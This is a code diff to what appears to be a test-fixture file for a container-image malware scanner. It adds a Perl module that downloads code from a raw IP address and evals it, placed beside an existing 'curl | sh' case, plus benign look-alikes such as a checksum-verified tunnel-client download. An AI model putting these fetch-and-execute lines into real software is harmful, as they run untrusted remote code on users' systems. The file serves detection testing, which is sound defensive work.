@@ -104,6 +104,10 @@ export const LIBRARIES: readonly ImageCase[] = [
     'usr/local/bundle/gems/y-2.0/lib/y.rb': RUBY,
   }),
   run(['perl', '-MX', '-e', '1'], {
+    'usr/share/perl5/X.pm':
+      'require LWP::Simple;\nmy $code = LWP::Simple::get("http://198.51.100.7/x");\neval "use strict; $code";\n1;\n',
+  }),
+  run(['perl', '-MX', '-e', '1'], {
     'usr/share/perl5/X.pm': 'use Y;\n1;\n',
     'usr/share/perl5/Y.pm': `system("curl -s ${URL} | sh");\n1;\n`,
   }),
@@ -194,6 +198,28 @@ export const LIBRARY_TWINS: readonly ImageCase[] = [
           'import zlib, subprocess\ndef load(path):\n    return zlib.decompress(open(path, "rb").read())\ndef call(args):\n    return subprocess.check_output(args)\n',
       },
       { Entrypoint: ['python3', '/app/m.py'] },
+    ),
+  },
+  {
+    name: 'a module that fetches a program of its own, whose checksum it knows',
+    spec: image(
+      {
+        'app/m.py': 'import tunnel\ntunnel.run([])\n',
+        'app/tunnel.py': `import hashlib, os, stat, subprocess, httpx\nURL = "https://cdn.example/frpc"\nSUMS = {URL: "${'0a'.repeat(32)}"}\ndef get():\n    open("frpc", "wb").write(httpx.get(URL).content)\n    os.chmod("frpc", os.stat("frpc").st_mode | stat.S_IEXEC)\n    got = hashlib.sha256(open("frpc", "rb").read()).hexdigest()\n    if got != SUMS[URL]:\n        raise ValueError(got)\ndef run(args):\n    return subprocess.Popen(["./frpc", *args])\n`,
+      },
+      { Entrypoint: ['python3', '/app/m.py'] },
+    ),
+  },
+  {
+    name: 'modules of Perl that load others by their names, and settings from an address',
+    spec: image(
+      {
+        'app/x.pl':
+          '#!/usr/bin/perl\nuse X;\nif (! eval "require LWP::UserAgent;") { $ret = "none"; }\nmy $ua = LWP::UserAgent->new(timeout => 30);\nmy $response = $ua->get("http://app.example/status");\nprint $response->content;\n',
+        'usr/share/perl5/X.pm':
+          'package X;\nsub load {\n    require LWP::UserAgent;\n    my $ua = LWP::UserAgent->new;\n    my $data = parse($ua->get($_[0])->content);\n    my $type = $data->{filter}->{value};\n    eval "require $type" or die "Require of $type failed";\n    eval { _init($type, $data) };\n    return $type->new;\n}\n1;\n',
+      },
+      { Entrypoint: ['/app/x.pl'] },
     ),
   },
   {
